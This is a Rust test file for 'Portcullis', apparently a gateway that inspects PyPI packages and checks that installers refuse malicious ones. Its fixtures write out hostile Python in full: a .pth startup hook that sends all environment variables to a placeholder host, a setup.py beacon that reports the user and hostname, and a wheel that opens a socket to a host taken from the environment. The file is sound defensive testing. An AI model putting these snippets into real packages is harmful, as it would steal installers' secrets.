//! What the inspection stops, on real clients' screens: a file that Python reads at each start, code in a
//! sound, a beacon in `setup.py`, and a wheel that is not what its sdist says. Inert packages; none of
//! their code runs.

use portcullis_core::pypi::filename::DistFilename;
use portcullis_fixtures::techniques::{Spelling, Technique, techniques};
use portcullis_fixtures::{FixtureIndex, ListedFile, incompressible, sdist, wheel};
use serde_json::Value;

use crate::gateway::{self, Gateway};
use crate::installers::{self, ALL, Installer};
use crate::program::Clients;
use crate::screen;

/// Files of more bytes are on their way before they are known.
const LARGE: usize = 64 << 10;

const LONG_AGO: &str = "2024-01-01T00:00:00Z";

fn old(file: impl Into<ListedFile>) -> ListedFile {
    file.into().upload_time(LONG_AGO)
}

/// A sample of the corpus, and the requirement that means it.
fn sample(technique: &str, spelling: &str) -> (ListedFile, String) {
    let all = techniques();
    let is_meant = |one: &&&Technique| one.id == technique;
    let technique = all.iter().find(is_meant).expect(technique);
    let is_meant = |one: &&Spelling| one.name == spelling;
    let spelling = technique.spellings.iter().find(is_meant);
    let (filename, bytes) = spelling.expect("a spelling").archive(technique);
    let parsed = DistFilename::parse(&filename, None).unwrap();
    let project = parsed.project().unwrap().to_string();
    let version = parsed.version().unwrap().to_string();
    let requirement = format!("{project}=={version}");
    let file = ListedFile::raw(&project, &version, &filename, bytes);
    (old(file), requirement)
}

/// Installs `requirement` with every client, each the first that asks its gateway; nobody receives anything,
/// and everybody who can show it shows why. What is large breaks off before its last block the first time,
/// and is explained the second time; of what is small the reason is there at once. The screens are compared
/// with the snapshot `name`.
#[track_caller]
fn all_are_refused(name: &str, files: &[ListedFile], requirement: &str, words: &[&str]) {
    let Some(clients) = Clients::find() else {
        return;
    };
    let index = FixtureIndex::start_blocking();
    for file in files {
        index.add(file.clone());
    }
    let mut screens = String::new();
    for installer in ALL {
        let gateway = gateway::before(&index).start();
        let install = || installer.install(&clients, &gateway.simple_url(), requirement);
        if files.iter().any(|file| file.bytes().len() > LARGE) {
            install().received_nothing();
        }
        let outcomes = [install()];
        outcomes[0].received_nothing();
        if installer != Installer::Pdm {
            let shown: Vec<&str> = outcomes[0].shown.text.split_whitespace().collect();
            let shown = shown.join(" ");
            for word in words.iter().chain(&["Portcullis", "/why/"]) {
                assert!(shown.contains(word), "{word} is not there: {}", outcomes[0]);
            }
        }
        // pdm asks for the page again: once the wheel is known, it may try to build the sdist instead.
        if installer != Installer::Pdm || files.len() == 1 {
            let screen = screen::of_outcomes(&outcomes);
            screens += &screen::without_places(&screen, &gateway, &index, &clients);
        }
        is_told(&gateway, requirement);
    }
    screen::compare(name, &screens);
}

/// `why` tells what the inspection saw.
#[track_caller]
fn is_told(gateway: &Gateway, requirement: &str) {
    let why = gateway.output(&["why", requirement, "--format", "json"]);
    let why: Value = serde_json::from_slice(&why.stdout).unwrap();
    let files = why["files"].as_array().unwrap().iter();
    let is_refused = |file: &&Value| file["effect"] != "allow" && file["effect"] != "warn";
    let refused: Vec<&Value> = files.filter(is_refused).collect();
    assert!(!refused.is_empty(), "{why}");
    for file in refused {
        assert_eq!(file["inspection"]["complete"], true, "{file}");
    }
}

#[test]
fn what_would_run_at_each_start_of_python_is_refused() {
    let code = "import os, urllib.request\n\
        def report():\n    \
        data = repr(dict(os.environ)).encode()\n    \
        urllib.request.urlopen('https://models.invalid/', data=data)\n";
    let wheel = wheel("lightllm", "1.82.8")
        .file("lightllm/__init__.py", "VERSION = '1.82.8'\n")
        .file("lightllm/_report.py", code)
        .file(
            "lightllm_init.pth",
            "import lightllm._report; lightllm._report.report()\n",
        )
        .file("lightllm/data.bin", incompressible(300_000));
    all_are_refused(
        "startup-file",
        &[old(wheel)],
        "lightllm==1.82.8",
        &["lightllm"],
    );
}

#[test]
fn code_in_a_sound_is_refused() {
    let (file, requirement) = sample("code-in-bundled-data", "frames-of-a-sound");
    all_are_refused("code-in-a-sound", &[file], &requirement, &["EXE-001"]);
}

#[test]
fn a_beacon_in_setup_py_is_refused_before_it_runs() {
    let setup = "import getpass, socket, urllib.request\n\
        from setuptools import setup\n\
        me = f'{getpass.getuser()}@{socket.gethostname()}'\n\
        urllib.request.urlopen('https://beacon.invalid/?who=' + me)\n\
        setup(name='acme-metrics', version='99.0.0')\n";
    let sdist = sdist("acme-metrics", "99.0.0").file("setup.py", setup);
    all_are_refused(
        "beacon-at-install",
        &[old(sdist)],
        "acme-metrics==99.0.0",
        &["setup.py", "sends"],
    );
}

#[test]
fn a_wheel_that_is_not_what_its_sdist_says_is_refused() {
    let honest = "def measure(text):\n    return len(text)\n";
    let other = format!(
        "import os, socket\n{honest}\n\
         _line = socket.create_connection((os.environ.get('MEASURES'), 4433), timeout=2)\n"
    );
    let sdist = sdist("measures", "2.0").file("measures/__init__.py", honest);
    let wheel = wheel("measures", "2.0").file("measures/__init__.py", other);
    all_are_refused(
        "wheel-and-sdist",
        &[old(sdist), old(wheel)],
        "measures==2.0",
        &["its sdist"],
    );
}

#[test]
fn what_is_clean_is_installed_and_its_abilities_are_told() {
    let Some(clients) = Clients::find() else {
        return;
    };
    let index = FixtureIndex::start_blocking();
    let code = "import subprocess\n\ndef head():\n    return subprocess.run(['git', 'log'])\n";
    let clean = wheel("tidy", "1.0").file("tidy/__init__.py", code);
    index.add(old(clean.file("tidy/data.bin", incompressible(300_000))));
    let gateway = gateway::before(&index).start();
    for outcome in installers::each(&ALL, &clients, &gateway.simple_url(), "tidy") {
        assert!(outcome.succeeded(), "{outcome}");
    }
    let why = gateway.command(&["why", "tidy"]);
    assert!(why.contains("What tidy 1.0 is able to do:"), "{why}");
    assert!(why.contains("when called  process"), "{why}");
}
